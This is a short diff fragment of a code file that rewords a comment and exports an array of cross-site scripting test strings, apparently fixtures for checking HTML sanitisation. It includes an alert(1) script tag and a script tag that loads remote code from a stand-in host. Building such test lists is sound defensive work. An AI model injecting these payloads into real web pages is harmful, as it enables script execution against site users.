@@ -1,4 +1,4 @@
-/** Attempts to run a script, by where they would break out of: text, an attribute, an address, a script, a style. */
+/** Scripts that break out of text, an attribute, an address, a script or a style. */
 export const scripts = [
 	"<script>alert(1)</script>",
 	"<SCRIPT SRC=//xau.example/x.js></SCRIPT>",
